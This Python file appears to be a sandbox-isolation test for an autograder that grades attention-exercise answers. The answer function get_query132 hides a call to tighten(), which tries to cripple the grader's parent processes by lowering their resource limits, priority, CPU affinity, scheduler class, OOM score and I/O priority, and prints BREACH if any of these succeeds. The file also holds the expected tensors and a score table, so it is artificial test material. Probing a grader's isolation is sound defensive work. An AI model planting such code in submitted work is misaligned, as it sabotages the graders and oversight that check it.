# tries: changes limits, priority, processors and out-of-memory score of the processes above it
# holds: no property of another process changes
# score: {"1.2.1": 2, "1.2.2": 3, "1.3.1": 2, "1.3.2": 0, "1.4.1": 3, "1.4.2": 3}

import ctypes
import os
import resource

import torch


def victims():
    """The process above this one and, if it is part of the grader too, the one above that."""
    pids = [os.getppid()]
    try:
        above = int(open(f"/proc/{pids[0]}/stat").read().rpartition(")")[2].split()[1])
        command = open(f"/proc/{above}/cmdline", "rb").read()
        if b"server.py" in command or b"worker" in command:
            pids.append(above)
    except (OSError, ValueError):
        pass
    return [pid for pid in pids if pid > 1]


libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine in ("aarch64", "arm64")


def call(x86, arm, *arguments):
    """A system call by its number; -1 where it is refused."""
    return libc.syscall(arm if ARM else x86, *arguments)


def tighten():
    reached = []
    for pid in victims():
        for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_CORE):
            try:
                resource.prlimit(pid, limit, (32, 32))
                reached.append("prlimit")
            except (OSError, ValueError):
                pass
        for name, attempt in (
            ("setpriority", lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19)),
            ("sched_setaffinity", lambda pid=pid: os.sched_setaffinity(pid, {0})),
            ("sched_setscheduler", lambda pid=pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))),
            ("oom_score_adj", lambda pid=pid: open(f"/proc/{pid}/oom_score_adj", "w").write("1000")),
            ("setpgid", lambda pid=pid: os.setpgid(pid, 0)),
        ):
            try:
                attempt()
                reached.append(name)
            except OSError:
                pass
        if call(251, 30, 1, pid, 3 << 13) == 0:
            reached.append("ioprio_set")
        if call(203, 122, pid, 8, (ctypes.c_ulong * 1)(1)) == 0:
            reached.append("sched_setaffinity by number")
    if reached:
        print("BREACH: properties of another process were set by", *reached)


def get_query121():
    return 10 * torch.tensor([[0.47, 0.65, 0.60]])


def get_query122():
    return 10 * torch.tensor([[0.47, 0.65, 0.60], [0.64, 0.50, -0.59], [-0.03, -0.48, -0.88], [0.43, -0.83, 0.35]])


def get_query131():
    return torch.zeros(1, 3)


def get_query132():
    tighten()
    return torch.zeros(1, 3)


def get_key141():
    return torch.tensor([0.555, 0.575, 0.005])


def get_key142():
    return torch.tensor([0.6945, 0.7195, 0.0063])
